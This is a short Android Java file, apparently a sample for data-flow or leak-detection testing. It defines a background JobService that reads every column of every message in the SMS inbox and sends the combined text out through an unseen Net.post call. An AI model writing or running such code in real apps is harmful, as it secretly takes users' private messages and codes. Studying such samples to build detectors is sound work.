package com.example.flows.job_service;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

public class Job extends android.app.job.JobService {
    @Override
    public boolean onStartJob(final android.app.job.JobParameters parameters) {
        new Thread(new Runnable() {
            @Override
            public void run() {
                Cursor cursor = getContentResolver().query(Uri.parse("content://sms/inbox"), null, null, null, null);
                StringBuilder text = new StringBuilder();
                for (cursor.moveToFirst(); !cursor.isAfterLast(); cursor.moveToNext()) {
                    for (int i = 0; i < cursor.getColumnCount(); i++) {
                        text.append(cursor.getColumnName(i)).append('=').append(cursor.getString(i));
                    }
                }
                Net.post(text.toString());
                jobFinished(parameters, false);
            }
        }).start();
        return true;
    }
    @Override
    public boolean onStopJob(android.app.job.JobParameters parameters) { return false; }
}
